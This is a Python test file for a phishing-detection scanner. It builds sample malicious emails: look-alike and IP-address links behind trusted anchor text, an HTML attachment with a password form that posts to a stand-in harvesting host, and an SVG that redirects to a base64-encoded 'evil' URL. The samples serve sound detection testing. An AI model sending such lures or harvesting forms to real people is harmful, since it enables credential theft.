"""Deceptive links and credential harvesting: what the reader sees is not where the link goes,
and pages that ask for passwords arrive in the body or as attachments."""

from __future__ import annotations

from .helpers import fired, html_only, mail, scan


def test_a_punycode_look_alike_of_a_brand_is_named() -> None:
    html = '<p>Confirm your identity: <a href="https://xn--pypal-4ve.com/login">continue</a></p>'
    result = scan(mail("Service <no-reply@notice.example.net>", "Action required", html=html))
    assert {"LINK_PUNYCODE", "BRAND_LOOKALIKE_DOMAIN"} <= fired(result)


def test_anchor_text_showing_another_domain_than_the_link() -> None:
    html = '<p>Sign in at <a href="http://198.51.100.7/login.php">www.mybank.example</a> today.</p>'
    result = scan(mail("My Bank <alerts@notices.example.net>", "Statement ready", html=html))
    hit = next(c for c in result.reasons if c.test == "ANCHOR_HREF_MISMATCH")
    assert "mybank.example" in hit.evidence and "198.51.100.7" in hit.evidence
    assert "LINK_IP_LITERAL" in fired(result)


def test_a_newsletter_linking_its_own_site_through_a_tracker_is_not_a_mismatch() -> None:
    html = ('<p><a href="https://click.esp.example.com/t/abc">www.shop.example</a></p>'
            '<p><a href="https://www.shop.example/sale">Sale</a></p>')
    result = scan(mail("Shop <news@shop.example>", "Autumn sale", text="Autumn sale.", html=html))
    assert "ANCHOR_HREF_MISMATCH" not in fired(result)
    assert result.verdict == "not_phishing"


def test_a_link_through_the_senders_own_tracking_host_is_not_a_mismatch() -> None:
    html = ('<p>Reseller news: <a href="http://clickthru.mailer.example/c?id=17">www.partner-resellers.example</a>'
            '</p><p>Congratulations to this month\'s winners!</p>')
    result = scan(mail("Partner News <news@newsletter.mailer.example>", "Reseller news", html=html))
    assert "ANCHOR_HREF_MISMATCH" not in fired(result)


def test_a_brand_shown_in_link_text_is_a_mismatch_even_through_the_senders_own_host() -> None:
    html = '<p>Review the payment at <a href="https://secure.mailer.example/r/9">www.paypal.com</a></p>'
    result = scan(mail("Billing <billing@mailer.example>", "Payment on hold", html=html))
    hit = next(c for c in result.reasons if c.test == "ANCHOR_HREF_MISMATCH")
    assert "paypal.com" in hit.evidence


def test_an_html_attachment_with_a_password_form_is_phishing() -> None:
    page = (b"<html><body><h3>Office 365</h3><form action='https://harvest.example.net/p'>"
            b"<input type='email' name='u'><input type='password' name='p'></form>"
            b"<script>window.location='https://harvest.example.net/'</script></body></html>")
    result = scan(mail("Scanner <scanner@office-docs.example.net>", "Remittance advice",
                       text="Open the attached remittance.", attachment=(page, "remittance.html", "text/html")))
    assert {"ATTACHMENT_CREDENTIAL_FORM", "ATTACHMENT_SCRIPT_REDIRECT"} <= fired(result)
    assert result.verdict == "phishing"


def test_an_svg_attachment_that_decodes_and_redirects_is_named() -> None:
    svg = (b'<svg xmlns="http://www.w3.org/2000/svg"><script>'
           b'location.href=atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUubmV0Lw==")</script></svg>')
    result = scan(mail("Voicemail <vm@calls.example.net>", "New voicemail",
                       text="Play the attached message.", attachment=(svg, "voicemail.svg", "image/svg+xml")))
    assert "ATTACHMENT_SCRIPT_REDIRECT" in fired(result)


def test_shorteners_free_hosting_and_lures_with_a_link_add_up() -> None:
    html = ('<p>Congratulations! You have been selected for a gift card. Claim your reward within 24 hours: '
            '<a href="https://bit.ly/3xYz">claim</a> or <a href="https://gift-7731.web.app/">here</a></p>')
    result = html_only("Rewards Center <rewards@promo-mailer.example.xyz>", "You have been selected", html)
    names = fired(scan(result))
    assert {"LINK_SHORTENER", "LINK_FREE_HOSTING", "LURE_PRIZE", "LURE_URGENCY"} <= names


def test_lure_wording_without_anything_to_click_does_not_count() -> None:
    result = scan(mail("Dave <dave@partner.example.org>", "Congratulations!",
                       text="Congratulations on the new job, you have won us all over.\n"))
    assert not {t for t in fired(result) if t.startswith("LURE_")}
